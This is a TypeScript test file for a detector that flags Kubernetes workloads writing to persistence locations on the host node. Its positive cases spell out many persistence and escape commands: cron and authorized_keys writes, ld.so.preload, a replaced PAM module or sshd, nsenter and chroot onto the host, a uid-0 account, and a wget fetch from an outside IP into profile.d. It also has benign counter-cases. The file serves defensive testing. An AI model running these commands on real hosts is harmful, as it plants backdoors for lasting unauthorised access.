import assert from 'node:assert/strict';
import { test } from 'node:test';
import { PERSISTENCE_FILES, PERSISTENCE_PREFIXES } from '../../command/places.ts';
import { blank, cronJob, indicatorTable, mounting, script, scriptOn, UNSEEN } from '../testing.ts';
import { commandPersistenceWrite } from './persistence-write.ts';

const onMount = (path: string, mountPath: string, text: string) =>
  cronJob(mounting(path, { mountPath }, ['sh', '-c', text]));

const sharing = (hostPID: boolean, text: string) =>
  cronJob({ hostPID, containers: [{ name: 'main', image: 'busybox:1.36', command: ['sh', '-c', text] }] });

indicatorTable(commandPersistenceWrite, {
  fires: {
    'the profile of root below its home': cronJob(
      mounting('/root', { mountPath: '/root' }, ['sh', '-c', 'echo id >> ~/.bashrc']),
    ),
    'a cron entry through the mounted root': scriptOn('/', 'echo "* * * * * root id" > /host/etc/cron.d/a'),
    'a key for root of machines of the cloud': script(
      `aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=["echo ssh-ed25519 AAAAC3NzaC1lZDI1 a >> /root/.ssh/authorized_keys"]'`,
    ),
    'a key that is appended': scriptOn('/', 'cat /key.pub >> /host/home/ubuntu/.ssh/authorized_keys'),
    'a unit that is copied': scriptOn('/', 'cp /payload/a.service /host/etc/systemd/system/'),
    'a library that is preloaded': scriptOn('/', 'echo /lib/x.so | tee -a /host/etc/ld.so.preload'),
    'a download to the place itself': scriptOn('/', 'wget -qO /host/etc/profile.d/a.sh http://203.0.113.7/a'),
    'a static pod through a narrower mount': onMount('/etc/kubernetes/manifests', '/m', 'printf x > /m/a.yaml'),
    'a path with dots': scriptOn('/', 'echo x > /host/usr/../etc/./cron.d/a'),
    'behind a chroot': script(`chroot /host sh -c 'echo x > /etc/cron.d/a'`),
    'behind an nsenter': script(`nsenter -t 1 -m -- sh -c 'sed -i s/a/b/ /etc/sudoers'`),
    'an editor': scriptOn('/', "vi -es -c 'normal i* * * * * root id' -c wq /host/etc/cron.d/a"),
    'lines for ed': scriptOn('/', "printf 'a\\n* * * * * root id\\n.\\nw\\nq\\n' | ed /host/etc/crontab"),
    'what a database puts out': scriptOn(
      '/',
      `sqlite3 /dev/null -cmd '.output /host/etc/cron.d/a' "select '* * * * * root id';"`,
    ),
    'what sort puts out': scriptOn('/', 'echo "* * * * * root id" | sort -o /host/etc/cron.d/a'),
    'a resource of puppet': scriptOn('/', `puppet apply -e 'file { "/host/etc/cron.d/a": content => "x" }'`),
    'a file of Java': scriptOn('/', `jrunscript -e 'w=new java.io.FileWriter("/host/etc/cron.d/a"); w.write("x")'`),
    'a here-document': scriptOn('/', 'cat > /host/etc/crontab <<EOF\n* * * * * root id\nEOF\n'),
    'an account that a tool makes on the mounted directory': cronJob(
      mounting('/etc', { mountPath: '/etc' }, ['sh', '-c', 'useradd -o -u 0 -g 0 -d /root backup']),
    ),
    'an account below the mounted root': scriptOn('/', 'useradd -R /host backup'),
    'a key through the first process of the node': sharing(true, 'echo k >> /proc/1/root/root/.ssh/authorized_keys'),
    'an entry that nobody may change': scriptOn('/', 'chattr +i /host/etc/cron.d/a'),
    'an entry that anybody may change again': scriptOn('/', 'chattr -ia /host/etc/ld.so.preload'),
    'the unit of a person': scriptOn('/home', 'cp a.service /host/ana/.config/systemd/user/'),
    'a module that is asked at each sign-in': scriptOn(
      '/',
      'cp pam_a.so /host/lib/x86_64-linux-gnu/security/pam_unix.so',
    ),
    'what each start of python loads': scriptOn('/', 'echo "import os" > /host/usr/lib/python3/dist-packages/a.pth'),
    'a program that lets people in': scriptOn('/', 'cp ./sshd /host/usr/sbin/sshd'),
    'a library that a sign-in loads': scriptOn('/', 'cp a.so /host/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.0'),
    'names for commands': scriptOn('/home', 'echo "alias sudo=/tmp/s" >> /host/ana/.bash_aliases'),
    'a hook of a repository': scriptOn('/', 'printf x > /host/root/app/.git/hooks/post-checkout'),
    'a command of the package manager': scriptOn(
      '/',
      `echo 'APT::Update::Pre-Invoke {"/usr/bin/a";};' > /host/etc/apt/apt.conf.d/99a`,
    ),
    'a command in the place of a module': scriptOn(
      '/',
      'echo "install cramfs /usr/bin/a" > /host/etc/modprobe.d/a.conf',
    ),
    'a library for everybody': scriptOn('/', 'echo "LD_PRELOAD=/opt/a.so" >> /host/etc/environment'),
    'a directory of libraries that anybody may fill': scriptOn('/', 'echo /tmp/lib > /host/etc/ld.so.conf.d/00-a.conf'),
    'the first program of the system': scriptOn(
      '/',
      `echo 'GRUB_CMDLINE_LINUX="init=/usr/bin/a"' >> /host/etc/default/grub`,
    ),
    'what takes each crash': scriptOn('/', 'echo "kernel.core_pattern=|/usr/bin/a" > /host/etc/sysctl.d/99-a.conf'),
    'a shell that python starts': cronJob(
      mounting('/', {}, ['python3', '-c', 'import os; os.system("echo x > /host/etc/cron.d/a")']),
    ),
    'an archive that is unpacked there': scriptOn('/', 'tar xzf /tmp/a.tgz -C /host/etc/cron.d'),
    'below the directory of the command': scriptOn('/', `cd /host; awk 'BEGIN { print "x" > "etc/cron.d/a" }'`),
  },
  staysSilent: {
    'an archive of programs of a network plugin': scriptOn('/', 'tar xzf /tmp/cni.tgz -C /host/opt/cni/bin'),
    'an editor that only looks': scriptOn('/', "vi -es -c 'q!' /host/etc/crontab"),
    'a database that is kept': scriptOn('/', `sqlite3 /host/var/lib/a.db '.output /host/var/backups/a.sql' .dump`),
    'a line of sed that is put out': scriptOn('/', "sed -n '/root/p' /host/etc/crontab"),
    'a search of tables': scriptOn('/', "find /host/etc/cron.d -type f -printf '%p\\n'"),
    'the profile of another home': cronJob({
      volumes: [{ name: 'node', hostPath: { path: '/root' } }],
      containers: [
        {
          name: 'main',
          image: 'busybox:1.36',
          command: ['sh', '-c', 'echo id >> ~/.bashrc'],
          env: [{ name: 'HOME', value: '/work' }],
          volumeMounts: [{ name: 'node', mountPath: '/root' }],
        },
      ],
    }),
    'the own crontab of a container': script(
      'echo "0 3 * * * /backup" > /etc/crontabs/root; echo x > /etc/cron.d/a; crond -f',
    ),
    'an account of the container, which mounts the logs of the node': scriptOn(
      '/var/log',
      'adduser -D app; passwd -l root',
    ),
    'a key of the container itself': script('echo ssh-ed25519 AAAAC3NzaC1lZDI1 a >> /root/.ssh/authorized_keys'),
    'a file of a user on machines of the cloud': script(
      `aws ssm send-command --parameters 'commands=["echo a >> /home/app/.profile"]'`,
    ),
    'the first process of the pod itself': sharing(false, 'echo k >> /proc/1/root/root/.ssh/authorized_keys'),
    'a file of the node that starts nothing, through its first process': sharing(
      true,
      'echo 1 > /proc/1/root/tmp/ready',
    ),
    'a place of the node that starts nothing': scriptOn('/', 'echo x > /host/var/backup/etc.tar'),
    'a file that starts nothing, and that nobody may change': scriptOn('/', 'chattr +i /host/etc/resolv.conf'),
    'the attributes of a place': scriptOn('/', 'lsattr /host/etc/crontab; chattr +i /data/etc/crontab'),
    'a proxy of the package manager': scriptOn(
      '/',
      `echo 'Acquire::http::Proxy "http://proxy.example.com:3128";' > /host/etc/apt/apt.conf.d/01proxy`,
    ),
    'modules that are kept out': scriptOn(
      '/',
      'printf "blacklist nouveau\ninstall dccp /bin/false\noptions kvm nested=1\n" > /host/etc/modprobe.d/a.conf',
    ),
    'a proxy for everybody': scriptOn('/', 'echo "https_proxy=http://proxy.example.com" >> /host/etc/environment'),
    'the libraries of a driver': scriptOn('/', 'echo /usr/local/nvidia/lib64 > /host/etc/ld.so.conf.d/nvidia.conf'),
    'large pages from the next start on': scriptOn(
      '/',
      `echo 'GRUB_CMDLINE_LINUX="hugepages=1024 isolcpus=2-7"' >> /host/etc/default/grub`,
    ),
    'a limit of the kernel': scriptOn('/', 'echo "fs.inotify.max_user_watches=524288" > /host/etc/sysctl.d/99-a.conf'),
    'a library of a driver': scriptOn('/', 'cp libcuda.so.1 /host/usr/lib/x86_64-linux-gnu/libcuda.so.1'),
    'a program of an installer': scriptOn(
      '/',
      'cp /opt/tool /host/usr/local/bin/tool; cp /opt/b /host/usr/bin/nvidia-smi',
    ),
    'a network plugin': scriptOn('/', 'cp /opt/cni/bin/bridge /host/opt/cni/bin/bridge'),
    'a place that is only read': scriptOn('/', 'cat /host/etc/crontab'),
    'a read-only mount': cronJob(mounting('/', { readOnly: true }, ['sh', '-c', 'echo x > /host/etc/cron.d/a'])),
    'a mount of other data': onMount('/data', '/host', 'echo x > /host/etc/cron.d/a'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});

for (const place of [...PERSISTENCE_FILES, ...PERSISTENCE_PREFIXES.map((prefix) => `${prefix}a`)]) {
  test(`${place} on the node`, () =>
    assert.equal(commandPersistenceWrite.assess(scriptOn('/', `echo x > /host${place}`)).kind, 'hit'));
}
